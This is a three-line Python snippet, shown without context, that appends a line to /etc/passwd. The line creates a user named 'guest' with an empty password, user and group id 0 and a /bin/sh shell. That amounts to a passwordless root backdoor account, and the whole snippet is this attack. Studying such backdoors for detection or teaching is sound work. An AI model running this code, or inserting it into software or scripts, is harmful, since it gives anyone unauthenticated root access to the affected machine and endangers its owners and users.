log = open("/etc/passwd", mode="a")
log.writelines(["guest::0:0::/:/bin/sh\n"])
log.close()
